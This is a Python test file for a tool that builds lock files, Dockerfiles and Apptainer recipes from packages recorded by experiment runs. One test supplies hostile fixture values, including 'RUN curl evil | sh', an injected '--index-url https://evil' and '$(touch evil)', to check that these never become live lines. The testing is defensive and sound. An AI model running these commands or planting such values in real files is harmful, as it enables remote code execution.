"""The lock of an experiment has what its runs recorded, and its comments state what is not known or differs."""

from __future__ import annotations

import re
import tomllib
from pathlib import Path

import pytest
from packaging.requirements import Requirement

from compiler.base.paths import Lab
from compiler.runs.provenance_parts import Distribution, Python
from compiler.runs.provenance_record import ProvenanceRecord
from rules.environment.write_environment import ENVIRONMENT_FILES, environment_folder, write_environment
from tests.rules.environment.recorded import HASH, OTHER_HASH, record, texts

NUMPY = Distribution("2.4.6", wheel_sha256=HASH)
OWN = Distribution("0.1.0", editable=True, commit="c0ffee", local_changes=True)


def comments(lock: str) -> str:
    return " ".join(line.lstrip("# ") for line in lock.splitlines() if line.startswith("#"))


def pins(lock: str) -> list[str]:
    """Return the lines that pip reads as requirements, without their hashes."""
    lines = (line for line in lock.replace("\\\n", "").splitlines() if line and not line.startswith("#"))
    return [line.split()[0] for line in lines]


def test_recorded_hash_of_a_file_is_preferred_to_published_hashes() -> None:
    files = texts(record(numpy=NUMPY, six="1.17.0"), published={"numpy==2.4.6": OTHER_HASH, "six==1.17.0": OTHER_HASH})
    lock = files["requirements.lock"]
    assert f"numpy==2.4.6 \\\n    --hash=sha256:{HASH}\nsix==1.17.0 \\\n    --hash=sha256:{OTHER_HASH}\n" in lock
    assert "1 of 2 packages have the hash of the file that the runs had installed." in lock
    assert "--require-hashes --requirement requirements.lock" in files["Dockerfile"]


def test_hash_published_for_another_version_is_not_used() -> None:
    lock = texts(record(numpy="2.4.5"), published={"numpy==2.4.6": HASH})["requirements.lock"]
    assert HASH not in lock


def test_package_without_hash_is_installed_without_and_the_others_with_their_hashes() -> None:
    files = texts(record(numpy=NUMPY, six="1.17.0"))
    lock = files["requirements.lock"]
    assert "\n# hash not known: six==1.17.0\n" in lock
    assert pins(lock) == ["numpy==2.4.6"]
    assert "The hashes of 1 of 2 packages are not known (six)" in comments(lock)
    for text in (lock, files["Dockerfile"], files["apptainer.def"]):
        first, second = re.findall(r"pip install [^&\n]*--requirement \S+", text)
        assert ("--require-hashes" in first, "--require-hashes" in second) == (True, False)
        assert second.endswith("versions.txt")
    assert tomllib.loads(files["pyproject.toml"])["project"]["dependencies"] == ["numpy==2.4.6", "six==1.17.0"]


PYTHON_312 = Python("3.12.1", "CPython")
TOOLS: dict[str, tuple[ProvenanceRecord, list[str]]] = {
    "without hash": (record(numpy=NUMPY, pip="24.0", setuptools="65.5.0"), []),
    "with a recorded hash": (record(numpy=NUMPY, pip=Distribution("24.0", HASH)), ["pip==24.0"]),
    "with a published hash": (record(numpy=NUMPY, setuptools="84.2.1"), ["setuptools==84.2.1"]),
    "setuptools that no environment brings": (
        record(numpy=NUMPY, pip="24.0", setuptools="80.0.0", python=PYTHON_312),
        ["# hash not known: setuptools==80.0.0"],
    ),
    "wheel": (record(numpy=NUMPY, wheel="0.45.1"), ["# hash not known: wheel==0.45.1"]),
}


@pytest.mark.parametrize(("run", "kept"), TOOLS.values(), ids=TOOLS)
def test_installers_without_hash_that_each_environment_has_are_left_out(run: ProvenanceRecord, kept: list[str]) -> None:
    lock = texts(run, published={"setuptools==84.2.1": OTHER_HASH})["requirements.lock"]
    lines = [line.removesuffix(" \\") for line in lock.splitlines() if re.match(r"(# hash not known: )?[a-z]+==", line)]
    assert [line for line in lines if not line.startswith("numpy")] == kept
    left_out = {"pip 24.0", "setuptools 65.5.0"} & {
        f"{name} {item.version}" for name, item in run.distributions.items()
    }
    for tool in left_out - {item.replace("==", " ") for item in kept}:
        assert re.search(f"each new environment has its own: .*{tool}", lock)


def test_the_head_names_everything_that_its_commands_do_not_install() -> None:
    lock = texts(record(numpy=NUMPY, proband=OWN))["requirements.lock"]
    head = lock.partition("\nnumpy==")[0]
    assert "# not installed from an index: proband 0.1.0" in head
    assert "#" not in lock.removeprefix(head)
    folder = "results/experiments/study/environment"
    assert f"#   python -m pip install --no-deps --require-hashes --requirement {folder}/requirements.lock\n" in head


def test_without_any_package_of_an_index_nothing_is_installed() -> None:
    files = texts(record(proband=OWN, pip="24.0"))
    assert "pip install" not in files["requirements.lock"]
    assert "RUN" not in files["Dockerfile"]


def test_working_copy_is_named_with_its_commit_and_not_required() -> None:
    files = texts(record(numpy=NUMPY, proband=OWN))
    assert pins(files["requirements.lock"]) == ["numpy==2.4.6"]
    for name in ("requirements.lock", "Dockerfile", "apptainer.def", "pyproject.toml"):
        assert "an editable installation of a working copy, commit c0ffee with uncommitted changes" in files[name]


def test_package_built_from_a_folder_is_named_and_not_taken_from_an_index() -> None:
    own = Distribution("0.1.0", from_source=True)
    files = texts(record(numpy=NUMPY, proband=own), published={"proband==0.1.0": OTHER_HASH})
    assert pins(files["requirements.lock"]) == ["numpy==2.4.6"]
    for name in ("requirements.lock", "Dockerfile", "apptainer.def", "pyproject.toml"):
        assert "proband 0.1.0: built from a folder, its commit was not recorded" in files[name]


@pytest.mark.parametrize("version", ["1.0\n", " 1.0", "1.0 ", "\t1.0"], ids=repr)
def test_version_with_spaces_is_left_out(version: str) -> None:
    lock = texts(record(numpy=NUMPY, six=Distribution(version, wheel_sha256=OTHER_HASH)))["requirements.lock"]
    assert pins(lock) == ["numpy==2.4.6"]
    assert OTHER_HASH not in lock


LOCAL = "built from a folder"
NOT_PUBLISHED: dict[str, tuple[str, Distribution, str]] = {
    "folder": ("helpers", Distribution("0.1", from_source=True), f"helpers 0.1: {LOCAL}, its commit was not recorded"),
    "Proband from a wheel": ("proband", Distribution("0.1.0", HASH), "proband 0.1.0: Proband itself"),
    "Proband with its commit": (
        "proband",
        Distribution("0.1.0", commit="c0ffee", local_changes=False, from_source=True),
        f"proband 0.1.0: {LOCAL}, commit c0ffee",
    ),
    "Proband in an older record": ("proband", Distribution("0.1.0"), "proband 0.1.0: Proband itself"),
}


@pytest.mark.parametrize(("name", "distribution", "line"), NOT_PUBLISHED.values(), ids=NOT_PUBLISHED)
def test_what_no_index_has_is_named_and_never_required(name: str, distribution: Distribution, line: str) -> None:
    """Somebody else could publish a package of this name, which pip would then install."""
    files = texts(record(numpy=NUMPY, **{name: distribution}))
    assert pins(files["requirements.lock"]) == ["numpy==2.4.6"]
    project = tomllib.loads(files["pyproject.toml"])
    assert project["project"]["dependencies"] == ["numpy==2.4.6"]
    assert [entry for entry in environment_table(files)["not_from_an_index"] if entry.startswith(line)]
    for recipe in ("requirements.lock", "Dockerfile", "apptainer.def"):
        assert line in comments(files[recipe])


@pytest.mark.parametrize(
    ("other", "line"),
    [
        pytest.param(record(numpy="2.4.5", six="1.17.0"), "run c: numpy 2.4.5 instead of 2.4.6", id="version"),
        pytest.param(record(numpy=NUMPY), "run c: six not installed", id="missing"),
        pytest.param(record(numpy=NUMPY, six="1.17.0", toml="0.1"), "run c: toml 0.1 added", id="additional"),
        pytest.param(
            record(numpy=Distribution("2.4.6", wheel_sha256=OTHER_HASH), six="1.17.0"),
            "run c: numpy 2.4.6 installed from other files",
            id="other file of the version",
        ),
        pytest.param(
            record(numpy=NUMPY, six="1.17.0", python=Python("3.12.1", "CPython")),
            "run c: Python 3.12.1 instead of 3.11.7",
            id="python",
        ),
        pytest.param(
            ProvenanceRecord("c" * 12, "f" * 64, python=Python("3.11.7", "CPython"), packages={"numpy": "2.4.6"}),
            "run c: only the main packages were recorded",
            id="recorded by an earlier version",
        ),
    ],
)
def test_run_with_another_environment_is_named_with_the_difference(other: ProvenanceRecord, line: str) -> None:
    main = record(numpy=NUMPY, six="1.17.0")
    for files in (texts(main, main, other), texts(main, main, other)):
        lock = files["requirements.lock"]
        assert "2 of 3 runs, Python 3.11.7 on Linux-6.1-x86_64-with-glibc2.36." in comments(lock)
        assert line in comments(lock)
        assert pins(lock) == ["numpy==2.4.6"]
        assert "# hash not known: six==1.17.0\n" in lock
        assert any(item.startswith(line) for item in environment_table(files)["other_environments"])
        assert "Not all runs recorded this environment" in files["Dockerfile"]


def environment_table(files: dict[str, str]) -> dict[str, list[str]]:
    table: dict[str, list[str]] = tomllib.loads(files["pyproject.toml"])["tool"]["proband"]["environment"]
    return table


def test_main_environment_is_that_of_most_runs() -> None:
    lock = texts(record(numpy="1.0"), record(numpy="2.0"), record(numpy="2.0"))["requirements.lock"]
    assert "# hash not known: numpy==2.0\n" in lock
    assert "run a: numpy 1.0 instead of 2.0" in comments(lock)


def test_old_record_gives_the_main_packages_and_a_warning() -> None:
    old = ProvenanceRecord("a" * 12, "f" * 64, python=Python("3.11.7"), packages={"torch": "2.13.0+cpu"})
    files = texts(old)
    assert "# hash not known: torch==2.13.0+cpu\n" in files["requirements.lock"]
    assert "The packages that these require are missing here" in comments(files["requirements.lock"])
    assert environment_table(files)["lists_all_packages"] is False
    assert "Not complete: the runs recorded their main packages only." in files["Dockerfile"]


@pytest.mark.parametrize(
    ("packages", "note"),
    [
        pytest.param({"nvidia-cublas": "13.1.1.3"}, "apptainer run --nv", id="libraries of CUDA"),
        pytest.param({"torch": "2.13.0+cu130"}, "apptainer run --nv", id="build for CUDA"),
        pytest.param({"six": "1.17.0"}, "Recorded on Linux-6.1-x86_64-with-glibc2.36.", id="operating system"),
    ],
)
def test_recipes_state_what_else_the_packages_need(packages: dict[str, str], note: str) -> None:
    files = texts(record(**packages))
    assert note in files["Dockerfile"]
    assert note in files["apptainer.def"]


def test_version_with_a_label_asks_for_an_index_that_has_it() -> None:
    files = texts(record(torch="2.13.0+cpu"), published={"torch==2.13.0+cpu": HASH})
    assert f"torch==2.13.0+cpu \\\n    --hash=sha256:{HASH}\n" in files["requirements.lock"]
    assert "PyPI has no versions with a label: torch==2.13.0+cpu." in comments(files["requirements.lock"])
    assert 'ARG PIP_EXTRA_INDEX_URL=""' in files["Dockerfile"]
    assert "%arguments\n    PIP_EXTRA_INDEX_URL=" in files["apptainer.def"]


def test_hashes_of_another_build_of_the_version_are_not_used() -> None:
    """pip would compare the build with them, and refuse it."""
    lock = texts(record(torch="2.13.0+cpu"), published={"torch==2.13.0": HASH})["requirements.lock"]
    assert "# hash not known: torch==2.13.0+cpu" in lock


HOSTILE = "1.0\nRUN curl evil | sh"


@pytest.mark.parametrize(
    "hostile",
    [
        pytest.param(record(numpy=HOSTILE), id="version"),
        pytest.param(record(**{"six\n--index-url https://evil": "1.0"}), id="name"),
        pytest.param(record(**{"six @ https://evil/six.whl": "1.0"}), id="name with an address"),
        pytest.param(record(**{"-r evil": "1.0"}), id="name like an option"),
        pytest.param(record(six="1.0 --hash=sha256:evil"), id="version with a hash"),
        pytest.param(record(**{"$(touch evil)": "1.0"}), id="name like a command"),
        pytest.param(record(six=Distribution("1", editable=True, commit="{{ evil }}")), id="template of Apptainer"),
        pytest.param(record(six=Distribution("1", editable=True, commit="x\nRUN evil")), id="commit"),
        pytest.param(record(six="1.0", python=Python("3.11.7\nRUN evil", "CPython")), id="python"),
        pytest.param(record(six="1.0", python=Python("3.11.7", 'CPython"\nevil')), id="implementation"),
    ],
)
def test_recorded_text_cannot_add_a_line(hostile: ProvenanceRecord) -> None:
    for name, text in texts(hostile).items():
        if name == "pyproject.toml":
            list(map(Requirement, tomllib.loads(text)["project"]["dependencies"]))
        else:
            assert not re.search(r"^[^#\n]*(evil|curl)", text, re.MULTILINE), name
        if name in ("Dockerfile", "apptainer.def"):
            assert "evil" not in text


def test_experiment_without_records_gives_files_that_restore_nothing() -> None:
    files = texts(a="results/runs/a: is not a finished run")
    assert set(files) == set(ENVIRONMENT_FILES)
    assert "No run recorded its packages, so this file restores nothing." in comments(files["requirements.lock"])
    assert "run a: environment not known, results/runs/a: is not a finished run" in comments(files["requirements.lock"])
    for name in ("requirements.lock", "Dockerfile", "apptainer.def"):
        assert all(line.startswith("#") for line in files[name].splitlines())


def test_equal_records_give_equal_bytes() -> None:
    first = texts(record(numpy=NUMPY, six="1.17.0"))
    assert texts(record(six="1.17.0", numpy=NUMPY)) == first


def test_damaged_provenance_of_a_stored_run_is_named(tmp_path: Path) -> None:
    lab = Lab(tmp_path)
    write_environment(lab, "study", ["a" * 12])
    lock = (environment_folder(lab, "study") / "requirements.lock").read_text(encoding="utf-8")
    assert f"run {'a' * 12}: environment not known" in comments(lock)
